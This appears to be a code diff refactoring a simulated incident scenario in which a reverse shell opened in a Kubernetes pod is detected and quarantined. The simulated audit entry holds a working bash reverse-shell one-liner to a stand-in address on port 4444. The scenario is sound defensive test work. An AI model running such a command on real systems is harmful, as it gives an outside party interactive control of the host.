@@ -1,39 +1,17 @@
 import type { Incident } from '../../shared/model/incident.ts';
 import { timeOf } from '../../shared/model/time.ts';
-import type { KubeCluster } from '../world/kubernetes/cluster.ts';
 import { SHOP } from '../world/seed.ts';
-import { clusterKey, type World } from '../world/world.ts';
 import { auditEntry } from './audit-entry.ts';
+import { endingMissing, stepsMissing } from './ending.ts';
 import type { Scenario } from './scenario.ts';
+import { podOf } from './shop.ts';
 
 const NAMESPACE = 'shop';
 const APP = 'cart';
-const TIER = 'quarantine';
-
-/** The first running pod of the Deployment: its name is the world's choice. */
-const victimOf = (world: World): string => {
-  const cluster: KubeCluster | undefined = world.clusters.get(clusterKey(SHOP));
-  const pods = cluster?.list('v1', 'Pod', NAMESPACE) ?? [];
-  const found = pods.find((pod) => pod.metadata.labels?.app === APP);
-  if (found === undefined) throw new Error(`the world has no pod of ${NAMESPACE}/${APP}: seed it with seedShop`);
-  return found.metadata.name;
-};
 
 const missingOf = (incident: Incident | undefined): string[] => {
   if (incident === undefined) return [`no incident on a pod of ${NAMESPACE}/${APP} was opened`];
-  const { decision, goal, run, journal } = incident;
-  const quarantined = journal.find((e) => e.step === 'quarantine-pod');
-  return [
-    ...(decision?.tier === TIER && decision.verdict === 'act'
-      ? []
-      : [
-          `expected the decision act: ${TIER}, found ${decision === null ? 'none' : `${decision.verdict}: ${decision.tier}`}`,
-        ]),
-    ...(goal !== null && goal.rev === run.rev ? [] : ['the run has not finished']),
-    ...(quarantined?.state === 'applied'
-      ? []
-      : [`quarantine-pod is not done, but ${quarantined?.state ?? 'not begun'}`]),
-  ];
+  return [...endingMissing(incident, { verdict: 'act', tier: 'quarantine' }), ...stepsMissing(incident)];
 };
 
 /** Somebody opens a reverse shell in a pod of a shop; it ends in quarantine, its evidence kept. */
@@ -55,7 +33,7 @@ export const reverseShell: Scenario = {
         resource: 'pods',
         subresource: 'exec',
         namespace: NAMESPACE,
-        name: victimOf(world),
+        name: podOf(world, NAMESPACE, ['app', APP]).metadata.name,
         command: 'bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
       }),
     },
